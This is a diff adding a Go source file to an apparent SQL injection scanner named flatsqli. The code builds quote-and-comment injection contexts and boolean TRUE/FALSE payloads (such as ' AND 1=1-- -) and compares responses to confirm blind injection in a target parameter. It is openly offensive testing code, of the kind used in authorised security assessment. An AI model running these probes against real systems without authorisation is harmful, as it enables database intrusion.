@@ -0,0 +1,132 @@
+package scanner
+
+import (
+	"fmt"
+
+	"github.com/morkin1792/flatsqli/internal/payloads"
+	"github.com/morkin1792/flatsqli/internal/requester"
+	"github.com/morkin1792/flatsqli/internal/ui"
+)
+
+// Context is how an injected value closes the SQL around it: the quote ending the
+// literal ("" for numeric contexts) and the comment discarding the rest of the
+// query ("" to keep it, balancing the trailing quote instead)
+type Context struct {
+	Quote   string
+	Comment string
+}
+
+// contextQuotes and contextComments build the matrix tried with SetContexts
+var (
+	contextQuotes   = []string{"'", `"`, ""}
+	contextComments = []string{"", "-- -", "#"}
+)
+
+// String describes the context, e.g. `' -- -` or "numeric"
+func (c Context) String() string {
+	name := c.Quote
+	if name == "" {
+		name = "numeric"
+	}
+	if c.Comment != "" {
+		name += " " + c.Comment
+	}
+	return name
+}
+
+// DataType returns the type of the value injected into: numeric without a quote,
+// string otherwise
+func (c Context) DataType() payloads.DataType {
+	if c.Quote == "" {
+		return payloads.DataNumeric
+	}
+	return payloads.DataString
+}
+
+// Prefix returns what goes before a boolean condition appended to value
+func (c Context) Prefix(value string) string {
+	return value + c.Quote + " AND ("
+}
+
+// Suffix returns what goes after the condition: the comment, or a tautology
+// reopening the quote closed by the prefix
+func (c Context) Suffix() string {
+	if c.Comment != "" {
+		return ")" + c.Comment
+	}
+	if c.Quote != "" {
+		return fmt.Sprintf(") AND %s1%s=%s1", c.Quote, c.Quote, c.Quote)
+	}
+	return ")"
+}
+
+// booleanPair returns the TRUE and FALSE payloads for value in this context.
+// Without a comment the condition itself balances the trailing quote.
+func (c Context) booleanPair(value string) (string, string) {
+	if c.Comment == "" && c.Quote != "" {
+		q := c.Quote
+		return fmt.Sprintf("%s%s AND %s1%s=%s1", value, q, q, q, q),
+			fmt.Sprintf("%s%s AND %s1%s=%s2", value, q, q, q, q)
+	}
+	return fmt.Sprintf("%s%s AND 1=1%s", value, c.Quote, c.Comment),
+		fmt.Sprintf("%s%s AND 1=2%s", value, c.Quote, c.Comment)
+}
+
+// SetContexts makes the boolean confirmation try every quote/comment context
+// instead of only the one implied by the heuristic, and adds a last scan step
+// probing the whole matrix for parameters no heuristic flagged
+func (s *Scanner) SetContexts(enabled bool) {
+	s.contexts = enabled
+}
+
+// contextsFor returns the contexts to try, the default one (numeric or single
+// quote, without comment) first. A numeric value may also be compared as a
+// string (id='1'), so the other data type is tried next.
+func (s *Scanner) contextsFor(value string, numeric bool) []Context {
+	first, other := Context{Quote: "'"}, Context{}
+	if numeric {
+		first, other = other, first
+	}
+	contexts := []Context{first}
+	if !s.contexts {
+		if isNumeric(value) {
+			contexts = append(contexts, other)
+		}
+		return contexts
+	}
+	for _, quote := range contextQuotes {
+		for _, comment := range contextComments {
+			if ctx := (Context{Quote: quote, Comment: comment}); ctx != first {
+				contexts = append(contexts, ctx)
+			}
+		}
+	}
+	return contexts
+}
+
+// findContext returns the first context whose TRUE payload reproduces the
+// response of value while its FALSE payload does not, or nil if none does
+func (s *Scanner) findContext(param Parameter, value string, contexts []Context) (*Context, string) {
+	baseResp := s.sendWithValue(param, value)
+	if baseResp == nil {
+		return nil, ""
+	}
+
+	for _, ctx := range contexts {
+		truePayload, falsePayload := ctx.booleanPair(value)
+		if !sameResponse(baseResp, s.sendWithValue(param, truePayload)) {
+			continue
+		}
+		falseResp := s.sendWithValue(param, falsePayload)
+		if falseResp != nil && !sameResponse(baseResp, falseResp) {
+			ui.Verbose(s.verbose, "Context %s works for %s", ctx, param.Name)
+			return &ctx, truePayload
+		}
+	}
+	return nil, ""
+}
+
+// sameResponse reports whether resp is non-nil and matches base
+func sameResponse(base, resp *requester.Response) bool {
+	return resp != nil && base.Fingerprint.Equals(resp.Fingerprint)
+}